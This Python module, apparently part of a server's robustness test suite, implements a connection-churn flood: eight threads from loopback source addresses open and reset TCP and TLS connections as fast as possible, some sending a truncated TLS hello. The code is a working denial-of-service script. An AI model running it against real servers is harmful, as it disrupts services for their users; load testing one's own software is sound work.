"""
Connections that are opened and closed as fast as they go.

They come from other addresses than the honest client does: what takes all of the processor's time cannot be
told from a client at the same address, and it shares what that address has.
"""

from __future__ import annotations

import socket
import struct
import threading

from misc.attack.target import Target, again_and_again, from_command_line, refused_or_cut

THREADS = 8
RESET = struct.pack("ii", 1, 0)  # closing sends RST, so that no port of ours waits


def attack(target: Target) -> None:
    """Go as far as TLS's handshake every fourth time, else no further than a word."""
    threads = [
        threading.Thread(target=churn, args=(target, f"127.0.1.{number + 1}"))
        for number in range(THREADS)
    ]
    for each in threads:
        each.start()
    for each in threads:
        each.join()


def churn(target: Target, source: str) -> None:
    """One thread's part."""
    for turn in again_and_again(target):
        with refused_or_cut():
            if not turn % 4:
                connection: socket.socket = target.connect_tls(source)
            else:
                connection = target.connect(source)
                if turn % 2:
                    connection.sendall(b"\x16\x03\x01\x00\x05hello")
            connection.setsockopt(socket.SOL_SOCKET, socket.SO_LINGER, RESET)
            connection.close()


if __name__ == "__main__":
    attack(from_command_line(__doc__))
